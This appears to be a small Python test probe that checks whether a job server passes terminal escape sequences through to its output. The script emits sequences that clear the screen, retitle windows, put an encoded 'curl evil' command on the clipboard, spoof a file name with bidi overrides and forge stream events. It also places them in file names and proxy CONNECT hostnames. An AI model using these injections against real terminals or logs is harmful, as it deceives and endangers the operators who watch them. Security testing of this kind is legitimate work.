"""
Speaks to the terminal of whoever watches the job with curl, or reads the server's log: clears it, renames its window, puts
a command on the clipboard, turns text around, ends the event's line; in the seven-bit spelling that JSON escapes, and in
the eight-bit one, of characters that JSON lets through. Also by names of files and of hosts.
Success: a character that a terminal obeys is in what the server sends.
"""
import os, socket, sys

ESC, CSI, OSC, ST = '\x1b', '\u009b', '\u009d', '\u009c'
words = [
    f'{ESC}[2J{ESC}[31m', f'{CSI}2J{CSI}31m', f'{OSC}0;owned{ST}', f'{OSC}52;c;Y3VybCBldmls{ST}', f'{ESC}]52;c;Y3VybCBldmls\x07',
    '\x7f\x08\x0b\x0c\r', '\u0085data: {"type":"Result"}', '\u2028id: 7\u2029', '\u202e txt.exe \u2066', '\u061c\u200f', '\x90\x9f\x8d',
]
sys.stdout.write(' '.join(words) + '\n')
os.chdir('/workspace')
for index, word in enumerate(words):
    with open(f'{index}{word}'.replace('/', ''), 'w') as file:
        file.write(word)
    with socket.create_connection(('127.0.0.1', 3128), 3) as connection:
        connection.sendall(f'CONNECT {word.split()[0]}.example:443 HTTP/1.1\r\nHost: x\r\n\r\n'.encode())
        connection.recv(1000)
